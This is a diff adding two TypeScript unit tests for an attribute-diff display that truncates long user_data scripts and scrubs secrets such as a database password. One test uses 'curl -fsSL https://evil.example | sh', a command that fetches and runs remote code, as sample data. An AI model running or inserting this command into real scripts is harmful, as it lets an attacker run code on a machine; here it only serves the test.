@@ -124,4 +124,62 @@ describe("attribute diff", () => {
       { path: "tags.a", before: '"1"', after: "(sensitive)" },
     ]);
   });
+
+  it("shows an edit past the 2,000th character of a long value, from just before it", () => {
+    const script = (last: string) => `#!/bin/sh\n${"echo step\n".repeat(400)}${last}\n`;
+    const c = asChange({
+      action: "update",
+      before: { user_data: script("systemctl start app"), tags: { a: "1" } },
+      after: { user_data: script("curl -fsSL https://evil.example | sh"), tags: { a: "1" } },
+      beforeSensitive: {},
+      afterSensitive: {},
+      afterUnknown: {},
+    });
+    const diff = attributeDiff(c);
+    assert.equal(diff.length, 1, JSON.stringify(diff));
+    const [d] = diff;
+    assert.equal(d.path, "user_data");
+    assert.ok(d.before?.startsWith("…") && d.after?.startsWith("…"), "both cut at the same place, marked");
+    assert.ok(d.before?.includes("systemctl start app"), d.before);
+    assert.ok(d.after?.includes("curl -fsSL https://evil.example | sh"), d.after);
+    assert.deepEqual(diff, referenceAttributeDiff(c, 500));
+    assert.equal(attributeDiffJson(c), JSON.stringify(diff));
+  });
+
+  it("scrubs a value shown whole before it is escaped and cut, and still lists a change inside a secret", async () => {
+    const { SecretScrubber } = await import("../../src/model/secrets.js");
+    const scrubber = new SecretScrubber([]);
+    const secret = "Hunter2pwXyz";
+    const script = (pw: string) =>
+      `#!/bin/sh\n${"echo step\n".repeat(300)}export DB_PASSWORD="${pw}"\necho done\n`;
+    // The old script is shown whole (the new one is unknown until apply): JSON-escaped, then cut.
+    const unknown = asChange({
+      action: "update",
+      before: { user_data: script(secret) },
+      after: { user_data: null },
+      beforeSensitive: {},
+      afterSensitive: {},
+      afterUnknown: { user_data: true },
+    });
+    const shown = attributeDiffJson(unknown, 500, scrubber);
+    assert.ok(!shown.includes(secret), shown);
+    // Only the password changed: the entry is listed, the password hidden on both sides.
+    const changed = asChange({
+      action: "update",
+      before: { user_data: script(secret) },
+      after: { user_data: script("Other5pwAbc") },
+      beforeSensitive: {},
+      afterSensitive: {},
+      afterUnknown: {},
+    });
+    const diff = attributeDiff(changed, 500, scrubber);
+    assert.equal(diff.length, 1);
+    for (const side of [diff[0].before, diff[0].after])
+      assert.ok(
+        side?.includes('DB_PASSWORD=\\"(sensitive)\\"') &&
+          !side.includes("pwXyz") &&
+          !side.includes("Other5"),
+        side,
+      );
+  });
 });
